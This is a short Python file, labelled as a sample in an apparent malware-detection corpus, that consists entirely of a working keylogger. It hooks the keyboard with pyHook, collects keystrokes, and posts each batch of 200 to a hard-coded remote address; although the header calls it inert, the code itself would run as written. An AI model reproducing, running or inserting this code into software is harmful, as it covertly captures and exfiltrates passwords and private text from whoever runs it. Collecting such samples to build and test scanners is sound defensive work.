# pkgguard corpus 160 (keylogger), modelled on [stealer-profile]; inert, never run.
import pythoncom
import pyHook
import requests

buffer = []


def on_key(event):
    buffer.append(event.Key)
    if len(buffer) >= 200:
        requests.post("http://100.64.160.8/k", data="".join(buffer))
        buffer.clear()
    return True


hm = pyHook.HookManager()
hm.KeyDown = on_key
hm.HookKeyboard()
pythoncom.PumpMessages()
